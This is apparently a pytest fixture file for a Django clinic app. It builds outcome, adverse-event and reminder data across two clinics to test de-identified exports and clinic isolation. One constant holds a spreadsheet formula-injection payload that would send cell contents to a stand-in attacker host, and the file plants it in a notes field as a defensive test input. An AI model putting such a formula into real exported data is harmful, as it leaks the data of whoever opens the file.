"""Outcome data in two clinics for the export tests, with time frozen and media in a temporary folder."""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass, field
from decimal import Decimal

import pytest
import time_machine

from clinic.models import Role
from patients.models import AdverseEvent, ExosomeApplication, OutcomeAssessment, Reminder, TreatmentArm
from tests.factories import (
    LotFactory,
    PatientFactory,
    ProductFactory,
    ProtocolFactory,
    StepFactory,
    TreatmentFactory,
    VersionFactory,
    staff,
)

NOW = dt.datetime(2026, 3, 20, 12, 0, tzinfo=dt.UTC)
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

# Identifying values of clinic A's patients: none may appear in a de-identified file.
SECRETS = {
    "given_name": "Marguerite",
    "family_name": "Okonkwo-Lindqvist",
    "email": "marguerite.ol@private.example",
    "phone": "+44 7700 900123",
    "reference": "H-77123",
    "date_of_birth": dt.date(1979, 2, 3),
}


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    # The fixtures create several staff users; the real hasher makes that slow.
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    return settings.MEDIA_ROOT


@dataclass
class OutcomeData:
    """What was built, so tests can compare exports with the database."""

    patients: list = field(default_factory=list)
    treatments: list = field(default_factory=list)
    assessments: list = field(default_factory=list)
    applications: list = field(default_factory=list)
    adverse_events: list = field(default_factory=list)
    reminders: list = field(default_factory=list)
    protocols: list = field(default_factory=list)
    clinicians: list = field(default_factory=list)
    other_clinic_treatment: object = None


def _assess(treatment, by, **values):
    values.setdefault("recorded_at", treatment.ended_at + dt.timedelta(days=values.get("time_point_day", 0), hours=2))
    return OutcomeAssessment.objects.create(treatment=treatment, recorded_by=by, **values)


@pytest.fixture
def outcome_data(clinic_a, clinic_b) -> OutcomeData:
    """Clinic A: a split-face treatment and a single-area one (two protocols, two clinicians); clinic B: one treatment."""
    data = OutcomeData()
    doctor = staff(Role.CLINICIAN, clinic_a, username="dr_hale")
    other_doctor = staff(Role.CLINICIAN, clinic_a, username="dr_imre")
    data.clinicians = [doctor, other_doctor]
    protocol = ProtocolFactory(clinic=clinic_a, name="Microneedling + exosome")
    laser = ProtocolFactory(clinic=clinic_a, name="Non-ablative laser + exosome", procedure="fractional_nonablative")
    data.protocols = [protocol, laser]
    version = VersionFactory(protocol=protocol, number=2)
    laser_version = VersionFactory(protocol=laser, number=1)
    product = ProductFactory(clinic=clinic_a, name="Plant exosome serum")
    lot = LotFactory(product=product, lot_number="PX-2026-001")

    patient = PatientFactory(
        clinic=clinic_a, given_name=SECRETS["given_name"], family_name=SECRETS["family_name"],
        email=SECRETS["email"], phone=SECRETS["phone"], reference=SECRETS["reference"],
        date_of_birth=SECRETS["date_of_birth"],
    )
    ended = NOW - dt.timedelta(days=20)
    split = TreatmentFactory(
        screening__patient=patient, screening__protocol_version=version, clinician=doctor,
        started_at=ended - dt.timedelta(hours=1), ended_at=ended, areas="full face",
    )
    left = TreatmentArm.objects.create(treatment=split, label="left", product=product)
    right = TreatmentArm.objects.create(treatment=split, label="right", is_control=True, control_description="saline")
    data.applications.append(
        ExosomeApplication.objects.create(
            treatment=split, arm=left, lot=lot, volume_ml=Decimal("0.50"), minutes_after_procedure=5, applied_by=doctor
        )
    )
    data.assessments += [
        _assess(split, doctor, arm=left, time_point_day=0, phase="before", erythema=0, oedema=0, pain=0),
        _assess(split, doctor, arm=left, time_point_day=3, erythema=2, oedema=1, pain=3, gais=-1, notes=INJECTION),
        _assess(split, doctor, arm=right, time_point_day=3, erythema=3, oedema=2, pain=4, gais=0,
                reepithelialisation_complete=False, reepithelialisation_percent=80, notes="-2 points vs left"),
        _assess(split, None, source="patient", time_point_day=3, erythema=2, pain=2, applied_as_instructed=True,
                problem_flagged=True),
    ]
    data.adverse_events.append(
        AdverseEvent.objects.create(
            treatment=split, arm=left, kind="pih", severity="mild", onset_date=(ended + dt.timedelta(days=4)).date(),
            resolution_date=(ended + dt.timedelta(days=12)).date(), recorded_by=doctor,
            description=f"Seen by {SECRETS['given_name']}'s GP", action_taken="hydroquinone",
        )
    )

    second_patient = PatientFactory(clinic=clinic_a, given_name="Tobias", family_name="Quenneville")
    later = NOW - dt.timedelta(days=5)
    single = TreatmentFactory(
        screening__patient=second_patient, screening__protocol_version=laser_version, clinician=other_doctor,
        started_at=later - dt.timedelta(minutes=40), ended_at=later, areas="cheeks",
    )
    data.assessments.append(_assess(single, other_doctor, time_point_day=1, erythema=1, pain=1, gais=2))
    data.patients = [patient, second_patient]
    data.treatments = [split, single]

    step = StepFactory(version=version, title="Day 3 self-check", order=3)
    data.reminders += [
        Reminder.objects.create(
            treatment=split, step=step, occurrence=0, occurs_at=ended + dt.timedelta(days=3),
            due_at=ended + dt.timedelta(days=3), status=Reminder.Status.SENT, attempts=1,
            sent_at=ended + dt.timedelta(days=3, seconds=20),
        ),
        Reminder.objects.create(
            treatment=split, step=step, occurrence=1, occurs_at=ended + dt.timedelta(days=4),
            due_at=ended + dt.timedelta(days=4), status=Reminder.Status.FAILED, attempts=5,
            last_error=f"550 5.1.1 <{SECRETS['email']}>: mailbox of {SECRETS['given_name']} unavailable",
        ),
    ]

    outsider = TreatmentFactory(
        screening__patient__clinic=clinic_b, screening__patient__given_name="Bertrand",
        screening__patient__family_name="Zzyzx", ended_at=NOW - dt.timedelta(days=7),
        started_at=NOW - dt.timedelta(days=7, hours=1),
    )
    outsider_doctor = staff(Role.CLINICIAN, clinic_b, username="dr_summit")
    _assess(outsider, outsider_doctor, time_point_day=1, erythema=4, pain=9)
    Reminder.objects.create(
        treatment=outsider, step=StepFactory(version=outsider.protocol_version), occurrence=0,
        occurs_at=NOW - dt.timedelta(days=6), due_at=NOW - dt.timedelta(days=6),
    )
    data.other_clinic_treatment = outsider
    return data
